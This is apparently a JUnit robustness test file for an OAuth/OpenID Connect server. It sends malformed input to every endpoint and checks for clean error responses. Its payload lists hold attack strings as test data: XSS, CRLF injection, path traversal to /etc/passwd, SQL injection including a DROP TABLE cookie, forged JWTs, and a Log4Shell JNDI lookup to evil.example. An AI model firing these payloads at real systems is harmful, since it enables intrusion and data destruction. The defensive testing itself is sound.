package dev.symbolon.server;

import static org.assertj.core.api.Assertions.assertThat;

import dev.symbolon.protocol.Parameters;
import dev.symbolon.protocol.json.JsonObject;
import dev.symbolon.server.TestBrowser.Stop;
import dev.symbolon.server.audit.AuditEvent;
import dev.symbolon.server.http.Headers;
import dev.symbolon.server.http.HttpRequest;
import dev.symbolon.server.http.HttpResponse;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Every endpoint is sent every kind of nonsense, by strangers and by people who are signed in. */
@DisplayName("Bad input: a clear answer, never a fault")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BadInputTest {

    private static final String FORM = "application/x-www-form-urlencoded";

    /** Values as they stand in a request, encoded. */
    private static final List<String> NONSENSE = List.of(
            "",
            "%",
            "%2",
            "%zz",
            "%00",
            "a%00b",
            "%0d%0aSet-Cookie:%20a=b",
            "%0a%0a<script>alert(1)</script>",
            "%1b[31m",
            "%7f",
            "%ff%fe",
            "%c0%af",
            "%ed%a0%80",
            "%e2%80%ae",
            "%e2%80%a8",
            "%ef%bb%bf",
            "%f0%9f%98%80",
            "\u00e4",
            "../../etc/passwd",
            "'%20OR%20'1'='1",
            "%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "null",
            "-1",
            "0",
            "2147483648",
            "99999999999999999999999",
            "1e400",
            "NaN",
            "eyJhbGciOiJub25lIn0.e30.",
            "a.b.c",
            "...",
            "e30.e30.e30",
            encoded("{\"a\":".repeat(2_000)),
            Base64.getUrlEncoder().encodeToString("{\"a\":".repeat(2_000).getBytes(StandardCharsets.UTF_8))
                    + ".e30.AAAA",
            encoded("[".repeat(16_000)),
            "a".repeat(2_049),
            "a".repeat(16_385),
            "a".repeat(1_000_000),
            "%20".repeat(5_000),
            encoded("x ".repeat(5_000)),
            encoded("\uD83D\uDE00".repeat(2_000)));

    private final TestProvider provider = TestProvider.withUser("ada");
    private final TestClient client = provider.register();
    private final TestBrowser browser = provider.browser();
    private final List<Sender> senders = new ArrayList<>();
    private Parameters interaction = Parameters.none();

    /** Somebody who sends requests, with what they bring along. */
    private record Sender(String who, Map<String, String> headers) {}

    /** An endpoint with a request that is good there. */
    record Target(String path, Parameters good) {}

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    @BeforeAll
    void signIn() {
        Stop.Shown login = browser.page(browser.ask(client.request("code id_token")));
        interaction = Parameters.none().with("interaction", login.field("interaction"));
        browser.finish(login);
        senders.add(new Sender("a stranger", Map.of()));
        senders.add(new Sender("Ada", browser.headers()));
        senders.add(new Sender("the client", client.authorization()));
    }

    @AfterAll
    void close() {
        provider.close();
    }

    private String signedRequest() {
        return TestClient.KEY.sign("JWT", JsonObject.empty().with("response_type", "code"));
    }

    private Parameters tokenOfTheClient() {
        return Parameters.none()
                .with("token", "x")
                .with("token_type_hint", "access_token")
                .with("client_id", client.id().value())
                .with("client_secret", client.secret().reveal());
    }

    private Stream<Target> targets() {
        return Stream.of(
                new Target("/authorize", everythingThatCanBeAsked()),
                new Target("/authorize", client.request("code").with("request", "x")),
                new Target("/authorize", client.request("code").with("request_uri", "x")),
                new Target("/authorize", client.request("code").with("request", signedRequest())),
                new Target("/oauth/par", everythingThatCanBeAsked()),
                new Target("/oauth/par", client.request("code").with("request", signedRequest())),
                new Target("/login", interaction.with("username", "ada").with("password", "x")),
                new Target("/consent", interaction.with("decision", "allow").with("leave_out", "email")),
                new Target("/account/select", interaction.with("account", "continue")),
                new Target("/account/consents", Parameters.none().with("consent", "x")),
                new Target(
                        "/oauth/token",
                        client.codeGrant("x").with("client_id", client.id().value())),
                new Target("/oauth/token", client.refreshGrant("x").with("scope", "openid")),
                new Target(
                        "/oauth/token",
                        Parameters.none()
                                .with("grant_type", "client_credentials")
                                .with("client_id", client.id().value())
                                .with("client_secret", "x")
                                .with("audience", TestProvider.REPORTS)
                                .with("scope", "read:reports")),
                new Target("/userinfo", Parameters.none().with("access_token", "x")),
                new Target("/oauth/introspect", tokenOfTheClient()),
                new Target("/oauth/revoke", tokenOfTheClient()),
                new Target(
                        "/oidc/logout",
                        Parameters.none()
                                .with("id_token_hint", "x")
                                .with("client_id", client.id().value())
                                .with("post_logout_redirect_uri", TestClient.AFTER_LOGOUT.value())
                                .with("state", "s")),
                new Target(
                        "/oidc/logout/confirm",
                        Parameters.none().with("logout", "x").with("decision", "stay")),
                new Target(
                        "/oauth/device/code",
                        Parameters.none()
                                .with("client_id", client.id().value())
                                .with("client_secret", client.secret().reveal())
                                .with("audience", TestProvider.REPORTS)
                                .with("scope", "openid read:reports")),
                new Target(
                        "/oauth/token",
                        TestDevice.poll("x").with("client_id", client.id().value())),
                new Target("/device", Parameters.none().with("user_code", "BCDF-GHJK")),
                new Target(
                        "/device/decision",
                        Parameters.none().with("device", "x").with("decision", "allow")),
                new Target("/device/qr", Parameters.none().with("user_code", "BCDF-GHJK")),
                new Target(
                        "/account/login",
                        Parameters.none()
                                .with("interaction", "x")
                                .with("username", "ada")
                                .with("password", "x")),
                new Target("/", Parameters.none().with("x", "y")),
                new Target(
                        "/.well-known/openid-configuration", Parameters.none().with("x", "y")),
                new Target("/.well-known/jwks.json", Parameters.none().with("x", "y")),
                new Target("/health/live", Parameters.none().with("x", "y")),
                new Target("/nowhere", Parameters.none().with("x", "y")));
    }

    private Parameters everythingThatCanBeAsked() {
        return client.request("code id_token token")
                .with("response_mode", "fragment")
                .with("prompt", "none")
                .with("max_age", "100")
                .with("ui_locales", "de")
                .with("id_token_hint", "x")
                .with("login_hint", "ada")
                .with("acr_values", "1")
                .with("claims", "{}")
                .with("resource", TestProvider.REPORTS);
    }

    private HttpResponse send(
            String method, String path, String query, String contentType, String body, Sender sender) {
        Headers headers = Headers.none();
        for (Map.Entry<String, String> field : sender.headers().entrySet()) {
            headers = headers.set(field.getKey(), field.getValue());
        }
        if (!contentType.isEmpty()) {
            headers = headers.set("Content-Type", contentType);
        }
        return provider.send(new HttpRequest(method, path, query, headers, body, "192.0.2.1"));
    }

    private void isAnsweredClearly(HttpResponse answer, String what) {
        assertThat(answer.status()).as(what).isBetween(200, 499);
        assertThat(answer.body())
                .as(what)
                .doesNotContain("dev.symbolon", "Exception", "\tat ", "<script>alert", "Caused by");
        if (answer.status() >= 400 && answer.status() != 401) {
            assertThat(answer.body()).as(what).isNotEmpty();
        }
        assertThat(provider.events()).as(what).noneMatch(AuditEvent.Failed.class::isInstance);
    }

    private static String with(Parameters good, String name, String encodedValue) {
        String rest = good.without(name).encoded();
        return (rest.isEmpty() ? "" : rest + "&") + name + "=" + encodedValue;
    }

    private static String brief(String text) {
        return text.length() < 60 ? text : text.substring(0, 60) + "… (" + text.length() + ")";
    }

    @ParameterizedTest
    @MethodSource("targets")
    void takesNonsenseInEveryParameter(Target target) {
        for (Sender sender : senders) {
            for (String name : target.good().names()) {
                for (String nonsense : NONSENSE) {
                    String parameters = with(target.good(), name, nonsense);
                    String what = sender.who() + ": " + target.path() + " " + name + "=" + brief(nonsense);
                    isAnsweredClearly(send("GET", target.path(), parameters, "", "", sender), "GET by " + what);
                    isAnsweredClearly(send("POST", target.path(), "", FORM, parameters, sender), "POST by " + what);
                }
            }
        }
    }

    @ParameterizedTest
    @MethodSource("targets")
    void takesEveryParameterTwiceAndNotAtAll(Target target) {
        for (Sender sender : senders) {
            for (String name : target.good().names()) {
                Parameters twice = target.good().with(name, target.good().required(name));
                Parameters never = target.good().without(name);
                for (Parameters parameters : List.of(twice, never, Parameters.none())) {
                    String what = sender.who() + ": " + target.path() + " " + name;
                    isAnsweredClearly(send("GET", target.path(), parameters.encoded(), "", "", sender), what);
                    isAnsweredClearly(send("POST", target.path(), "", FORM, parameters.encoded(), sender), what);
                }
            }
        }
    }

    @ParameterizedTest
    @MethodSource("targets")
    void takesEveryMethod(Target target) {
        for (Sender sender : senders) {
            for (String method : List.of("GET", "HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "BREW")) {
                HttpResponse answer = send(
                        method,
                        target.path(),
                        method.equals("POST") ? "" : target.good().encoded(),
                        FORM,
                        target.good().encoded(),
                        sender);

                assertThat(answer.status()).as(method + " " + target.path()).isBetween(200, 499);
            }
        }
    }

    @ParameterizedTest
    @MethodSource("targets")
    void takesEveryContentType(Target target) {
        for (Sender sender : senders) {
            for (String type : List.of(
                    "",
                    "application/json",
                    "multipart/form-data; boundary=x",
                    "text/plain",
                    FORM + "; charset=utf-16",
                    "application/x-www-form-urlencoded-not",
                    ";",
                    "x".repeat(1_000))) {
                String what = sender.who() + ": " + target.path() + " as " + brief(type);
                isAnsweredClearly(
                        send("POST", target.path(), "", type, target.good().encoded(), sender), what);
                isAnsweredClearly(send("POST", target.path(), "", type, "{\"a\":{}}", sender), what);
                isAnsweredClearly(send("POST", target.path(), "", type, "", sender), what);
            }
        }
    }

    @ParameterizedTest
    @MethodSource("targets")
    void takesMoreParametersThanThereAre(Target target) {
        String many = "a=b&".repeat(101);
        String different = String.join(
                "&",
                Stream.iterate(0, i -> i + 1)
                        .limit(5_000)
                        .map(i -> "p" + i + "=v")
                        .toList());
        for (Sender sender : senders) {
            for (String parameters : List.of(many, different, "&&&&", "=", "=&=", "&=x", "a".repeat(100_000))) {
                String what = sender.who() + ": " + target.path() + " " + brief(parameters);
                isAnsweredClearly(send("GET", target.path(), parameters, "", "", sender), what);
                isAnsweredClearly(send("POST", target.path(), "", FORM, parameters, sender), what);
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Basic",
                "Basic =",
                "Basic AAAA",
                "Basic JTAwOiUwMA==",
                "Basic JTpz",
                "Bearer",
                "Bearer ",
                "Bearer \u00e4",
                "Bearer a b c",
                "Bearer eyJhbGciOiJIUzI1NiJ9.e30.AAAA",
                "Bearer eyJhbGciOiJSUzI1NiIsImNyaXQiOlsieCJdfQ.e30.AAAA",
                "Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6Ii4uLy4uL2V0Yy9wYXNzd2QifQ.e30.AAAA",
                "DPoP x",
                "Negotiate",
                " "
            })
    void takesEveryAuthorization(String authorization) {
        Sender sender = new Sender("somebody", Map.of("Authorization", authorization));
        for (Target target : targets().toList()) {
            String what = target.path() + " by " + authorization;
            isAnsweredClearly(send("GET", target.path(), target.good().encoded(), "", "", sender), what);
            isAnsweredClearly(
                    send("POST", target.path(), "", FORM, target.good().encoded(), sender), what);
            isAnsweredClearly(send("POST", target.path(), "", "", "", sender), what);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                ";",
                "=",
                "__Host-symbolon_session",
                "__Host-symbolon_session=\u00e4\u00e4",
                "__Host-symbolon_session==;__Host-symbolon_browser=;;;",
                "__Host-symbolon_session=\u00e4\u00e4",
                "__Host-symbolon_session='; DROP TABLE sessions; --"
            })
    void takesEveryCookie(String cookie) {
        Sender sender = new Sender("somebody", Map.of("Cookie", cookie));
        for (Target target : targets().toList()) {
            isAnsweredClearly(
                    send("GET", target.path(), target.good().encoded(), "", "", sender), target.path() + " " + cookie);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"*/*", "", "application/json", "de;q=abc", "\u00e4", "xxxxxxxxxx"})
    void takesEveryWish(String wish) {
        Sender sender = new Sender("somebody", Map.of("Accept", wish, "Accept-Language", wish.repeat(1_000)));
        for (Target target : targets().toList()) {
            isAnsweredClearly(send("GET", target.path(), "", "", "", sender), target.path());
        }
    }

    @Test
    void tellsProgramsWhatIsWrongInJson() {
        HttpResponse answer = send("POST", "/oauth/token", "", "text/plain", "{}", senders.get(2));

        assertThat(answer.headers().first("Content-Type")).contains("application/json");
        assertThat(answer.body()).contains("\"error\":\"invalid_request\"", FORM);
    }

    @Test
    void tellsPeopleWhatIsWrongOnAPage() {
        HttpResponse answer = send("GET", "/authorize", "state=" + "a".repeat(1_000_000), "", "", senders.getFirst());

        assertThat(answer.status()).isEqualTo(400);
        assertThat(answer.body()).contains("<h1>", "a parameter is longer than 16384 characters");
    }

    @Test
    void tellsTheClientWhatIsWrongWithItsRequest() {
        String request = client.request("code id_token").encoded() + "&extra=" + "a".repeat(6_000);

        HttpResponse answer = send("GET", "/authorize", request, "", "", senders.getFirst());

        assertThat(answer.headers().first("Location").orElseThrow())
                .startsWith(client.redirectUri().value() + "#error=invalid_request");
    }
}
